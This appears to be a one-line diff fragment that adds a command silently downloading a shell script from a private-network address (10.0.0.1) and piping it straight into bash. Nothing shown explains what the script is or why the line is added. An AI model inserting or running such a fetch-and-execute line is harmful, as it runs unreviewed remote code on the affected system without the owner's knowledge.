@@ -1,0 +1,1 @@
+bash <(curl -s http://10.0.0.1/run.sh)
